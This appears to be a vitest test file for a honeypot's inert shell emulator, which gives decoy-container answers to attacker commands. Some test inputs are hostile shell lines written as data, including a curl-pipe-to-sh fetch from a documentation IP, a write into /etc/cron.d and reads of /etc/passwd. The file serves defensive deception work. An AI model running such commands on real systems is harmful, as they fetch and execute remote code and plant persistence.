import { describe, expect, it } from 'vitest';
import { analyseWithCore } from './analysis.js';
import { parseTrapConfig } from './config.js';
import { emulate, type ProcessView } from './output.js';
import { ROOT_USER, resolveUser } from './users.js';

const cfg = parseTrapConfig({});
const proc: ProcessView = { hostname: 'c0ffee123456', user: ROOT_USER, workdir: '/', env: ['PATH=/usr/bin:/bin', 'A=1'] };
const run = (cmd: string[], view: ProcessView = proc) => emulate(analyseWithCore({ cmd }).commands, cfg, view);

describe('emulate (the inert shell)', () => {
  it('exit statuses: false, exit N (mod 256), the last command\'s status, exit with no number', () => {
    expect(run(['false']).exitCode).toBe(1);
    expect(run(['sh', '-c', 'exit 3']).exitCode).toBe(3);
    expect(run(['sh', '-c', 'echo a; exit 300; echo b'])).toEqual({ stdout: 'a\n', stderr: '', exitCode: 44 });
    expect(run(['sh', '-c', 'false; exit'])).toEqual({ stdout: '', stderr: '', exitCode: 1 });
    expect(run(['sh', '-c', 'curl -s http://192.0.2.1/x | sh']).exitCode).toBe(0);
  });

  it('environment, working directory and host name of the process', () => {
    expect(run(['sh', '-c', 'echo $A ${A}x $HOME $HOSTNAME; cd /etc; pwd; cd ..; pwd; echo $?']).stdout).toBe('1 1x /root c0ffee123456\n/etc\n/\n0\n');
    expect(run(['pwd'], { ...proc, workdir: '/srv' }).stdout).toBe('/srv\n');
    // Exec'd directly: dockerd's order (PATH, HOSTNAME, the container's variables) and runc's HOME, no shell variables.
    expect(run(['printenv']).stdout).toBe('PATH=/usr/bin:/bin\nHOSTNAME=c0ffee123456\nA=1\nHOME=/root\n');
    expect(run(['sh', '-c', 'cd /tmp; printenv']).stdout).toBe('PATH=/usr/bin:/bin\nHOSTNAME=c0ffee123456\nA=1\nHOME=/root\nOLDPWD=/\nSHLVL=1\nPWD=/tmp\n');
  });

  it('a bare env (which the core split keeps only as a wrapper) prints the environment; env K=V, env -i', () => {
    expect(run(['env']).stdout).toBe('PATH=/usr/bin:/bin\nHOSTNAME=c0ffee123456\nA=1\nHOME=/root\n');
    expect(run(['/usr/bin/env'], { ...proc, tty: true }).stdout).toBe('PATH=/usr/bin:/bin\nHOSTNAME=c0ffee123456\nTERM=xterm\nA=1\nHOME=/root\n');
    expect(run(['env', 'B=2']).stdout).toBe('PATH=/usr/bin:/bin\nHOSTNAME=c0ffee123456\nA=1\nHOME=/root\nB=2\n');
    expect(run(['env', '-i', 'B=2']).stdout).toBe('B=2\n');
    expect(run(['sh', '-c', 'env | grep PATH; echo done']).stdout).toBe('PATH=/usr/bin:/bin\ndone\n');
  });

  it('pipes feed the next command (grep, head, wc), redirections keep output off stdout, >&2 goes to stderr', () => {
    expect(run(['sh', '-c', 'env | grep -c PATH; cat /etc/passwd | head -n 1 | wc -l'])).toEqual({ stdout: '1\n1\n', stderr: '', exitCode: 0 });
    expect(run(['sh', '-c', 'id | grep -q uid=1; echo $?']).stdout).toBe('1\n');
    expect(run(['sh', '-c', 'echo x > /etc/cron.d/m; echo y >> /tmp/l 2>&1; echo z >/dev/null 2>&1; echo ok'])).toEqual({ stdout: 'ok\n', stderr: '', exitCode: 0 });
    expect(run(['sh', '-c', 'echo a; echo b >&2; echo c 2>/dev/null'])).toEqual({ stdout: 'a\nc\n', stderr: 'b\n', exitCode: 0 });
    expect(run(['sh', '-c', 'cat <<EOF\nhere\nEOF']).stdout).toBe('here\n');
    expect(run(['sh', '-c', 'curl -s http://192.0.2.1/x | sh; echo done']).stdout).toBe('done\n');
  });

  it('tty answers as the process\'s terminal is', () => {
    expect(run(['tty'], { ...proc, tty: true })).toEqual({ stdout: '/dev/pts/0\n', stderr: '', exitCode: 0 });
    expect(run(['tty'])).toEqual({ stdout: 'not a tty\n', stderr: '', exitCode: 1 });
  });

  it('/proc/cpuinfo has one block per CPU, as many as nproc says', () => {
    expect(run(['sh', '-c', 'grep -c ^processor /proc/cpuinfo; nproc']).stdout).toBe(`${cfg.engine.ncpu}\n${cfg.engine.ncpu}\n`);
  });

  it('the user: id, whoami and $HOME follow it; a uid without a name has no login name', () => {
    const u = resolveUser('1000');
    if (!u.ok) throw new Error(u.error);
    const view = { ...proc, user: u.user };
    expect(run(['sh', '-c', 'id; id -u; echo $HOME'], view).stdout).toBe('uid=1000 gid=0(root) groups=0(root)\n1000\n/\n');
    expect(run(['whoami'], view)).toEqual({ stdout: '', stderr: '', exitCode: 1 });
    expect(run(['id', '-un'], view)).toEqual({ stdout: '', stderr: '', exitCode: 1 });
  });

  it('recon files answer from the decoy host', () => {
    expect(run(['cat', '/etc/hostname']).stdout).toBe('c0ffee123456\n');
    expect(run(['cat', '/proc/1/cgroup']).stdout).toBe('0::/\n');
    expect(run(['sh', '-c', 'cd /etc && cat passwd']).stdout).toMatch(/^root:x:0:0:/);
  });
});
